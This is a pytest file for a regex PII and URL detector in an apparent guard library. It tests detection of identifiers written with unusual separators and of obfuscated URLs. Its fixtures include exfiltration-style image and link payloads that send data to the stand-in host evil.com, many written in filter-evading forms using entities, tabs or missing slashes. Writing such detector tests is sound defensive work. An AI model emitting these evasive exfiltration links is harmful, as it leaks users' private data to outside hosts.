"""s34 qa_verify V1/V2 and qa_scripts H1-H4, L1 (regex layer): URLs a browser loads that are
written without slashes or with tabs and newlines inside their start, and identifiers written
with other scripts' separators, glued abbreviations ("№", "nº", "℡") and glued to text in
scripts without spaces. Every value is checked by slicing the original string."""

from __future__ import annotations

import pytest
from bastion.detectors import build_detector
from bastion.detectors.escapes import decode_escapes
from bastion.detectors.pii_regex import RegexPIIDetector, rule_view
from bastion.guard import Guard
from bastion.normalize import normalize
from bastion.types import Action

_DET = RegexPIIDetector()
_GUARD = Guard([build_detector("pii_regex")])


def _found(text: str) -> list[tuple[str, str]]:
    return [(f.label, text[f.start : f.end]) for f in _DET.detect([text])[0]]


def _view_found(text: str) -> list[tuple[str, str]]:
    """The detector's findings on the text the Guard gives it (NFKC, "№" -> "No"), before thresholds."""
    n = normalize(text, homoglyphs="mixed")
    return [(f.label, text[slice(*n.to_original(f.start, f.end))]) for f in _DET.detect([n.text])[0]]


def _guard_found(text: str) -> list[tuple[str, str]]:
    """What the Guard's regex layer finds: the detector reads the normalised (NFKC) text."""
    return [(f.label, text[f.start : f.end]) for f in _GUARD.check(text).pii]


# -- V1: a web scheme with the host right after the colon --------------------------------------

NO_SLASH = [
    ("![s](http:evil.com/p.png?d=secret_merger)", "http:evil.com/p.png?d=secret_merger"),
    ("![s](https:evil.com/p.png?d=secret_merger)", "https:evil.com/p.png?d=secret_merger"),
    ("[click](HTTPS:evil.com)", "HTTPS:evil.com"),
    ('<img src="http:evil.com/p.png?d=merger">', "http:evil.com/p.png?d=merger"),
    ("<img src=https:evil.com/p.png?d=merger>", "https:evil.com/p.png?d=merger"),
    ('<a href = "https:evil.com/c?d=merger">x</a>', "https:evil.com/c?d=merger"),
    ("div { background: url(http:evil.com/p.png?d=merger) }", "http:evil.com/p.png?d=merger"),
    ("Done. See http:evil.com/p.png?d=merger now", "http:evil.com/p.png?d=merger"),
    ("open https:evil.com:8443 today", "https:evil.com:8443"),
    ("<http:evil.com/p?d=merger>", "http:evil.com/p?d=merger"),
    ('{"url": "http:evil.com/c?d=merger"}', "http:evil.com/c?d=merger"),
    ("![s](http:203.0.113.5/p.png?d=merger)", "http:203.0.113.5/p.png?d=merger"),
]


@pytest.mark.parametrize(("text", "url"), NO_SLASH)
def test_a_scheme_without_slashes_is_read_whole(text: str, url: str) -> None:
    start = text.index(url)
    found = _DET.detect([text])[0]
    assert found and min(f.start for f in found) == start, found
    assert max(f.end for f in found) == start + len(url)
    assert {i for f in found for i in range(f.start, f.end)} == set(range(start, start + len(url)))


@pytest.mark.parametrize(
    "text",
    [
        "note:see.this",
        "ratio http:2",
        "https:2 and http:80",
        "the http: and https: schemes",
        'url = "http:" + host',
        "HTTP:200 OK",
        "see http:evil.com",  # prose: no path or query after the host, and no page loads it
        "ftp:files.example.com/x",
        "java:com.foo.Bar/x",
        "http:localhost/x",
    ],
)
def test_a_colon_without_a_host_is_no_url(text: str) -> None:
    assert [lb for lb, _ in _found(text) if lb == "URL"] == []


def test_check_output_redacts_a_url_without_slashes() -> None:
    r = _GUARD.check_output("Done! ![s](http:evil.com/p.png?d=the_user_is_planning_a_merger)")
    assert r.action is Action.REDACT
    assert "evil" not in r.redacted_text and "merger" not in r.redacted_text


# -- V2: tabs and newlines inside the start; slash references with many zeros ------------------

TABS = [
    ('<img src="/\t/evil.com/p.png?d=merger">', "/\t/evil.com/p.png?d=merger"),
    ('<img src="/\n/evil.com/p.png?d=merger">', "/\n/evil.com/p.png?d=merger"),
    ('<img src="/\r\n/evil.com/p.png?d=merger">', "/\r\n/evil.com/p.png?d=merger"),
    ('<img src="/&#9;/evil.com/p.png?d=merger">', "/&#9;/evil.com/p.png?d=merger"),
    ('<img src="/&Tab;/evil.com/p.png?d=merger">', "/&Tab;/evil.com/p.png?d=merger"),
    ('<img src="/&#10;/evil.com/p.png?d=merger">', "/&#10;/evil.com/p.png?d=merger"),
    ('<img src="/&NewLine;/evil.com/p.png?d=merger">', "/&NewLine;/evil.com/p.png?d=merger"),
    ('<img src="/&#13;/evil.com/p.png?d=merger">', "/&#13;/evil.com/p.png?d=merger"),
    ('<img src="https:/&NewLine;/evil.com/p.png?d=merger">', "https:/&NewLine;/evil.com/p.png?d=merger"),
    ('<img src="h\tttps://evil.com/p.png?d=merger">', "h\tttps://evil.com/p.png?d=merger"),
    ('<img src="ht&#10;tps://evil.com/p.png?d=merger">', "ht&#10;tps://evil.com/p.png?d=merger"),
    ('<img src="htt&Tab;p:evil.com/p.png?d=merger">', "htt&Tab;p:evil.com/p.png?d=merger"),
    ('<a href="https:\t//evil.com/c?d=merger">', "https:\t//evil.com/c?d=merger"),
    ("![s](/\t/evil.com/p.png?d=merger)", "/\t/evil.com/p.png?d=merger"),
    (
        '<img src="&#x000002f;&#x000002f;evil.com/p.png?d=merger">',
        "&#x000002f;&#x000002f;evil.com/p.png?d=merger",
    ),
    (
        '<img src="&#00000047;&#00000047;evil.com/p.png?d=merger">',
        "&#00000047;&#00000047;evil.com/p.png?d=merger",
    ),
    (
        '<img src="https&#x00000003a;&#x000002F;&#x000002F;evil.com/p.png?d=merger">',
        "https&#x00000003a;&#x000002F;&#x000002F;evil.com/p.png?d=merger",
    ),
]


@pytest.mark.parametrize(("text", "url"), TABS)
def test_a_url_start_broken_by_tabs_or_zeros_is_read_whole(text: str, url: str) -> None:
    start = text.index(url)
    found = [f for f in _DET.detect([text])[0] if f.label == "URL"]
    assert found and min(f.start for f in found) == start, found
    covered = {i for f in _DET.detect([text])[0] for i in range(f.start, f.end)}
    assert set(range(start, start + len(url))) <= covered


@pytest.mark.parametrize(
    "text",
    [
        "path/\n/other",
        "a /\t/ b",
        "x = a /\n/ b.c",
        "total /\t/ count.value",
        "http\n\nsome text. next",
    ],
)
def test_tabs_between_slashes_in_code_are_no_url(text: str) -> None:
    assert [lb for lb, _ in _found(text) if lb == "URL"] == []


@pytest.mark.parametrize(
    ("text", "char"),
    [
        ("&#x000002f;", "/"),
        ("&#0000047;", "/"),
        ("&#000000000058;", ":"),
        ("&#x0000000041;", "A"),
        ("&#47;", "/"),
    ],
)
def test_numeric_references_take_any_number_of_leading_zeros(text: str, char: str) -> None:
    d = decode_escapes("a" + text + "b")
    assert d is not None and d.text == "a" + char + "b"
    assert d.to_original(1, 2) == (1, 1 + len(text))


@pytest.mark.parametrize("text", ["&#0;", "&#x0000;", "&#00000000;"])
def test_a_zero_reference_stays_as_written(text: str) -> None:
    assert decode_escapes("a" + text) is None


# -- H1: katakana long-vowel mark, middle dots and other dashes between digit groups ----------

SEPARATORS = [
    (
        "\u30ab\u30fc\u30c9\u756a\u53f7 4111\u30fc1111\u30fc1111\u30fc1111",
        "CREDIT_CARD",
        "4111\u30fc1111\u30fc1111\u30fc1111",
    ),
    ("card 4111\uff701111\uff701111\uff701111", "CREDIT_CARD", "4111\uff701111\uff701111\uff701111"),
    ("card 4111\u30fb1111\u30fb1111\u30fb1111", "CREDIT_CARD", "4111\u30fb1111\u30fb1111\u30fb1111"),
    ("card 4111\u00b71111\u00b71111\u00b71111", "CREDIT_CARD", "4111\u00b71111\u00b71111\u00b71111"),
    ("card 4111\u20431111\u20431111\u20431111", "CREDIT_CARD", "4111\u20431111\u20431111\u20431111"),
    ("card 4111\u2e3a1111\u2e3a1111\u2e3a1111", "CREDIT_CARD", "4111\u2e3a1111\u2e3a1111\u2e3a1111"),
    ("SSN 536\u30fc22\u30fc1847", "US_SSN", "536\u30fc22\u30fc1847"),
    ("SSN 536\uff6522\uff651847", "US_SSN", "536\uff6522\uff651847"),
    (
        "IBAN DE89\u30fc3704\u30fc0044\u30fc0532\u30fc0130\u30fc00",
        "IBAN_CODE",
        "DE89\u30fc3704\u30fc0044\u30fc0532\u30fc0130\u30fc00",
    ),
    ("TEL 03\uff701234\uff705678", "PHONE_NUMBER", "03\uff701234\uff705678"),
    ("\u96fb\u8a71 090\u30fc1234\u30fc5678", "PHONE_NUMBER", "090\u30fc1234\u30fc5678"),
    ("tel 03\u30fb1234\u30fb5678", "PHONE_NUMBER", "03\u30fb1234\u30fb5678"),
    ("call 415\u00b7555\u00b72671", "PHONE_NUMBER", "415\u00b7555\u00b72671"),
]


@pytest.mark.parametrize(("text", "label", "value"), SEPARATORS)
def test_other_scripts_dashes_separate_digit_groups(text: str, label: str, value: str) -> None:
    assert (label, value) in _found(text)
    assert (label, value) in _guard_found(text)


def test_a_checksum_invalid_value_with_such_dashes_stays_unmatched() -> None:
    assert _found("card 4111\u30fc1111\u30fc1111\u30fc1112") == []
    assert _found("IBAN DE88\u30fc3704\u30fc0044\u30fc0532\u30fc0130\u30fc00") == []


@pytest.mark.parametrize(
    "text", ["\u30ab\u30fc\u30c9", "\u30c7\u30fc\u30bf", "l\u00b7l", "\u30b3\u30fc\u30d2\u30fc3"]
)
def test_the_long_vowel_mark_in_words_stays_itself(text: str) -> None:
    assert rule_view(text) is None or "-" not in rule_view(text).text  # type: ignore[union-attr]


# -- H2 / M2: "№", "nº", "No", "℡", "℻" glued to a number --------------------------------------

GLUED_ABBREVIATIONS = [
    ("\u043a\u0430\u0440\u0442\u0430 \u21164111 1111 1111 1111", "CREDIT_CARD", "4111 1111 1111 1111"),
    ("SSN \u2116536-22-1847", "US_SSN", "536-22-1847"),
    ("PESEL \u211644051401359", "PL_PESEL", "44051401359"),
    ("cart\xe3o n\xba4111111111111111", "CREDIT_CARD", "4111111111111111"),
    ("CPF n\xba111.444.777-35", "BR_CPF", "111.444.777-35"),
    ("DNI n\xba12345678Z", "ES_NIF", "12345678Z"),
    ("\u212103-1234-5678", "PHONE_NUMBER", "03-1234-5678"),
    ("\u213b03-1234-5678", "PHONE_NUMBER", "03-1234-5678"),
    ("\u21210312345678", "PHONE_NUMBER", "0312345678"),
    ("card No4111111111111111", "CREDIT_CARD", "4111111111111111"),
    ("Karte Nr4111111111111111", "CREDIT_CARD", "4111111111111111"),
    ("SSN no536-22-1847", "US_SSN", "536-22-1847"),
    ("TEL+44 20 7946 0958", "PHONE_NUMBER", "+44 20 7946 0958"),
    ("Fax020 7946 0958", "PHONE_NUMBER", "020 7946 0958"),
    ("\u043f\u0430\u0441\u043f\u043e\u0440\u0442 \u21164509 123456", "PASSPORT", "4509 123456"),
]


@pytest.mark.parametrize(("text", "label", "value"), GLUED_ABBREVIATIONS)
def test_a_number_after_a_glued_abbreviation_is_read(text: str, label: str, value: str) -> None:
    # the Guard reads the NFKC text ("№" -> "No", "℡" -> "TEL"); the detector alone the text as given
    assert _guard_found(text) == [(label, value)]
    assert (label, value) in _view_found(text)


@pytest.mark.parametrize(
    ("glued", "spaced"),
    [
        (
            "\u043f\u0430\u0441\u043f\u043e\u0440\u0442 \u21164509123456",
            "\u043f\u0430\u0441\u043f\u043e\u0440\u0442 \u2116 4509123456",
        ),
        (
            "\u043f\u0430\u0441\u043f\u043e\u0440\u0442 \u21164509 123456",
            "\u043f\u0430\u0441\u043f\u043e\u0440\u0442 \u2116 4509 123456",
        ),
        ("\u21164111 1111 1111 1111", "\u2116 4111 1111 1111 1111"),
        ("n\xba44051401359 PESEL", "n\xba 44051401359 PESEL"),
        ("\u2121+44 20 7946 0958", "\u2121 +44 20 7946 0958"),
        ("Tel+44 20 7946 0958", "Tel +44 20 7946 0958"),
        ("No536-22-1847 SSN", "No 536-22-1847 SSN"),
    ],
)
def test_glued_reads_as_spaced(glued: str, spaced: str) -> None:
    want = _view_found(spaced)
    assert want and _view_found(glued) == want


def test_a_russian_passport_after_the_numero_sign_is_redacted_whole() -> None:
    text = "\u043f\u0430\u0441\u043f\u043e\u0440\u0442 \u21164509 123456"
    r = _GUARD.check(text)
    assert r.redacted_text == "\u043f\u0430\u0441\u043f\u043e\u0440\u0442 \u2116[REDACTED_PASSPORT]"


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("password: No12345678", "No12345678"),
        ("pw=tel5551234", "tel5551234"),
        ("password=Nr1234567", "Nr1234567"),
    ],
)
def test_a_password_that_starts_like_an_abbreviation_stays_whole(text: str, value: str) -> None:
    # read as written: the second reading of the number after the abbreviation adds nothing here
    assert _found(text) == [("PASSWORD", value)]


@pytest.mark.parametrize(
    "text",
    ["card No4111111111111112", "NO2 levels 12 and 14", "hotel No5", "Nr12 street", "\u21164111111111111112"],
)
def test_glued_abbreviations_add_no_invalid_values(text: str) -> None:
    assert _found(text) == []
    assert _guard_found(text) == []


# -- H3: internationalised addresses and ideographic full stops --------------------------------

MAILS = [
    ("\u90ae\u7bb1 zhang.wei@\u516c\u53f8.\u4e2d\u56fd", "zhang.wei@\u516c\u53f8.\u4e2d\u56fd"),
    (
        "\u0627\u0644\u0628\u0631\u064a\u062f: ali@\u0634\u0631\u0643\u0629.\u0627\u0644\u0633\u0639\u0648\u062f\u064a\u0629",
        "ali@\u0634\u0631\u0643\u0629.\u0627\u0644\u0633\u0639\u0648\u062f\u064a\u0629",
    ),
    (
        "\u0627\u0644\u0628\u0631\u064a\u062f: \u0639\u0644\u064a@\u0645\u062b\u0627\u0644.\u0645\u0635\u0631",
        "\u0639\u0644\u064a@\u0645\u062b\u0627\u0644.\u0645\u0635\u0631",
    ),
    (
        "\u0e2d\u0e35\u0e40\u0e21\u0e25 somchai@\u0e15\u0e31\u0e27\u0e2d\u0e22\u0e48\u0e32\u0e07.\u0e44\u0e17\u0e22",
        "somchai@\u0e15\u0e31\u0e27\u0e2d\u0e22\u0e48\u0e32\u0e07.\u0e44\u0e17\u0e22",
    ),
    ("mail jane@\u4f8b\u3048.jp", "jane@\u4f8b\u3048.jp"),
    (
        "mail rahul@\u0909\u0926\u093e\u0939\u0930\u0923.\u092d\u093e\u0930\u0924",
        "rahul@\u0909\u0926\u093e\u0939\u0930\u0923.\u092d\u093e\u0930\u0924",
    ),
    (
        "\u0908\u092e\u0947\u0932 \u0930\u093e\u0939\u0941\u0932@\u0909\u0926\u093e\u0939\u0930\u0923.\u092d\u093e\u0930\u0924",
        "\u0930\u093e\u0939\u0941\u0932@\u0909\u0926\u093e\u0939\u0930\u0923.\u092d\u093e\u0930\u0924",
    ),
    ("\u90ae\u7bb1 \u5f20\u4f1f@\u516c\u53f8.\u4e2d\u56fd", "\u5f20\u4f1f@\u516c\u53f8.\u4e2d\u56fd"),
    ("mail jane@example\u3002com", "jane@example\u3002com"),
    ("mail jane@example\uff61com", "jane@example\uff61com"),
    ("mail jane@example\uff0ecom", "jane@example\uff0ecom"),
    ("mail jane@mail\u3002example\u3002co\u3002uk", "jane@mail\u3002example\u3002co\u3002uk"),
    ("mail jane@\u4f8b\u3048\u3002jp", "jane@\u4f8b\u3048\u3002jp"),
]


@pytest.mark.parametrize(("text", "value"), MAILS)
def test_an_internationalised_address_is_found_whole(text: str, value: str) -> None:
    assert _found(text) == [("EMAIL_ADDRESS", value)]
    assert _guard_found(text) == [("EMAIL_ADDRESS", value)]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("\u90ae\u7bb1jane@example.com\u8c22\u8c22", "jane@example.com"),
        ("\u8bf7\u8054\u7cfbjane@example.com\u3002\u8c22\u8c22", "jane@example.com"),
        ("\u30e1\u30fc\u30eb\u306fjane@example.com\u3067\u3059\u3002", "jane@example.com"),
        ("write to jane@example.com\u3002Thanks", "jane@example.com"),
        ("\u0e2d\u0e35\u0e40\u0e21\u0e25somchai@example.com", "somchai@example.com"),
        ("mail jane@example.com, bob@example.org", "jane@example.com"),
    ],
)
def test_text_around_an_address_stays_outside_it(text: str, value: str) -> None:
    assert _found(text)[0] == ("EMAIL_ADDRESS", value)


@pytest.mark.parametrize(
    "text",
    [
        "\u6211@\u516c\u53f8\u3002\u660e\u5929\u89c1",
        "\u516c\u53f8\u3002\u4e2d\u56fd",
        "@\u516c\u53f8.\u4e2d\u56fd",
    ],
)
def test_a_sentence_with_an_at_sign_is_no_address(text: str) -> None:
    assert _found(text) == []


# -- H4 / L1: phones and IPs glued to Thai, Arabic, CJK text; other scripts' dots -------------

GLUED_TO_TEXT = [
    ("\u0e42\u0e17\u0e23+66812345678\u0e04\u0e23\u0e31\u0e1a", "PHONE_NUMBER", "+66812345678"),
    ("\u0e42\u0e17\u0e23+66 81 234 5678\u0e04\u0e23\u0e31\u0e1a", "PHONE_NUMBER", "+66 81 234 5678"),
    (
        "\u0631\u0642\u0645\u064a+\u0669\u0666\u0666\u0665\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667",
        "PHONE_NUMBER",
        "+\u0669\u0666\u0666\u0665\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667",
    ),
    (
        "\u062c\u0648\u0627\u0644\u0660\u0665\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667",
        "PHONE_NUMBER",
        "\u0660\u0665\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667",
    ),
    ("IP\u30a2\u30c9\u30ec\u30b9\u306f10.0.0.5\u3067\u3059", "IP_ADDRESS", "10.0.0.5"),
    ("\u670d\u52a1\u5668\u5730\u5740192.168.1.23\u8bf7\u52ff\u5916\u4f20", "IP_ADDRESS", "192.168.1.23"),
    (
        "\u0e17\u0e35\u0e48\u0e2d\u0e22\u0e39\u0e48\u0e44\u0e2d\u0e1e\u0e35192.168.1.23\u0e04\u0e23\u0e31\u0e1a",
        "IP_ADDRESS",
        "192.168.1.23",
    ),
    (
        "\u0639\u0646\u0648\u0627\u0646 \u0627\u0644\u062e\u0627\u062f\u0645\u0661\u0669\u0662.\u0661\u0666\u0668.\u0661.\u0662\u0663",
        "IP_ADDRESS",
        "\u0661\u0669\u0662.\u0661\u0666\u0668.\u0661.\u0662\u0663",
    ),
    ("\u5730\u57402001:db8::8a2e:370:7334\u3067\u3059", "IP_ADDRESS", "2001:db8::8a2e:370:7334"),
    (
        "ip \u0661\u0669\u0662\u066b\u0661\u0666\u0668\u066b\u0661\u066b\u0662\u0663",
        "IP_ADDRESS",
        "\u0661\u0669\u0662\u066b\u0661\u0666\u0668\u066b\u0661\u066b\u0662\u0663",
    ),
    ("ip 192\u3002168\u30021\u300223", "IP_ADDRESS", "192\u3002168\u30021\u300223"),
    ("ip 192\uff61168\uff611\uff6123", "IP_ADDRESS", "192\uff61168\uff611\uff6123"),
]


@pytest.mark.parametrize(("text", "label", "value"), GLUED_TO_TEXT)
def test_a_number_glued_to_text_without_spaces_is_read(text: str, label: str, value: str) -> None:
    assert _found(text) == [(label, value)]
    assert _guard_found(text) == [(label, value)]


@pytest.mark.parametrize(
    "text",
    [
        "abc10.0.0.5",
        "v10.0.0.5x",
        "\u0432\u0435\u0440\u0441\u0438\u044f10.0.0.5",  # Cyrillic spaces its words: glued is a name
        "id_192.168.1.23",
        "sku4155550123",
        "price \u0661\u066c\u0662\u0663\u0664\u066c\u0665\u0666\u0667\u066b\u0668\u0669",
        "\u0627\u0644\u0646\u0633\u062e\u0629 \u0661\u066b\u0662",
    ],
)
def test_a_number_glued_to_a_spaced_word_or_grouped_price_is_not_read(text: str) -> None:
    assert _found(text) == []


@pytest.mark.parametrize(
    ("text", "label", "value"),
    [
        # abbreviations glued to a number, the nearest variants (s34 qa_verify2 H4)
        ("CardNo4111111111111111", "CREDIT_CARD", "4111111111111111"),
        ("AcctNo4111111111111111", "CREDIT_CARD", "4111111111111111"),
        ("card Nro4111111111111111 thanks", "CREDIT_CARD", "4111111111111111"),
        ("Num4111111111111111", "CREDIT_CARD", "4111111111111111"),
        ("Mob07700900123", "PHONE_NUMBER", "07700900123"),
        ("Ph+14155550123", "PHONE_NUMBER", "+14155550123"),
        ("Tfn+46701234567", "PHONE_NUMBER", "+46701234567"),
        ("SSN536-22-8471", "US_SSN", "536-22-8471"),
    ],
)
def test_a_number_glued_to_a_longer_label_is_read(text, label, value):
    from bastion.detectors.pii_regex import RegexPIIDetector

    found = [(f.label, text[f.start : f.end]) for f in RegexPIIDetector().detect([text])[0] if f.score >= 0.5]
    assert (label, value) in found


@pytest.mark.parametrize(
    "text", ["pH7 solution", "NO2 levels", "Tel1 line", "Card1 is red", "Num2 and Num3", "version No2"]
)
def test_short_numbers_after_such_labels_stay_text(text):
    from bastion.detectors.pii_regex import RegexPIIDetector

    assert not [f for f in RegexPIIDetector().detect([text])[0] if f.score >= 0.5]


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("カード 4111〜1111〜1111〜1111", "CREDIT_CARD"),
        ("電話 090～1234～5678", "PHONE_NUMBER"),
        ("SSN 536〜22〜8471", "US_SSN"),
    ],
)
def test_wave_dashes_between_digit_groups(text, label):
    # s34 qa_verify2 M3: 〜 and ～ let cards, phones and SSNs through
    from bastion.detectors.pii_regex import RegexPIIDetector

    assert label in {f.label for f in RegexPIIDetector().detect([text])[0] if f.score >= 0.5}


@pytest.mark.parametrize("text", ["営業時間 9〜17時", "価格 1000～2000円"])
def test_wave_dashes_in_ranges_stay_text(text):
    from bastion.detectors.pii_regex import RegexPIIDetector

    assert not [f for f in RegexPIIDetector().detect([text])[0] if f.score >= 0.5]
